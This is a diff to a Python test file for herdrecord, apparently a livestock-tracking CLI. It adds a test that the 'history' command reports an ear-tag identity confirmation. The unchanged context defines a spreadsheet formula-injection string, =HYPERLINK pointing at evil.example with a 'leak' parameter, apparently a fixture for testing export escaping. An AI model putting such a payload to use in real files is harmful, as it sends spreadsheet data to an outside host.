@@ -21,8 +21,10 @@ from conftest import service_settings
 from herdrecord._version import __version__
 from herdrecord.cli import app
 from herdrecord.linking.review import ReviewItem, TrackletRef
+from herdrecord.lookup.animals import get_animal
 from herdrecord.lookup.review_queue import why
 from herdrecord.server import create_app
+from herdrecord.store.record import open_record
 
 runner = CliRunner()
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -202,6 +204,30 @@ def test_history_folds_repeats_and_takes_limit_and_since(herd: Herd) -> None:
     assert "0 decisions" in future.stdout
     bad = runner.invoke(app, ["history", herd.path, "P00001", "--since", "yesterday"])
     assert bad.exit_code == 2 and "--since 'yesterday'" in bad.output
+
+
+def test_history_says_when_a_tag_read_confirmed_the_identity(herd: Herd) -> None:
+    record = open_record(herd.path)
+    animals = [get_animal(record, a["animal_id"]) for a in _json(["animals", herd.path])]
+    confirmed = [a for a in animals if a.identity_confirmed_by is not None]
+    assert confirmed, "the simulated pen reads ear tags: some animal is confirmed by one"
+    animal = confirmed[0]
+    assert animal.identity_confirmed_at is not None
+    line = (
+        f"{animal.animal_id}: identity confirmed by a tag read of {animal.tag_id} on "
+        f"{animal.identity_confirmed_at:%Y-%m-%d %H:%M} UTC ({animal.identity_confirmed_by})"
+    )
+    table = _run(["history", herd.path, animal.animal_id]).stdout
+    assert line in table
+    (marked,) = [row for row in table.splitlines() if "identity confirmed" in row and "│" in row]
+    assert str(animal.identity_confirmed_by) in marked
+    # The line stays when --limit leaves the confirming decision out; scripts get a column.
+    assert line in _run(["history", herd.path, animal.animal_id, "--limit", "1"]).stdout
+    rows = _json(["history", herd.path, animal.animal_id])
+    assert [r["tracklet"] for r in rows if r["confirms_identity"]] == [animal.identity_confirmed_by]
+    for other in animals:
+        if other.identity_confirmed_by is None:
+            assert "identity confirmed" not in _run(["history", herd.path, other.animal_id]).stdout
 
 
 @pytest.mark.parametrize(
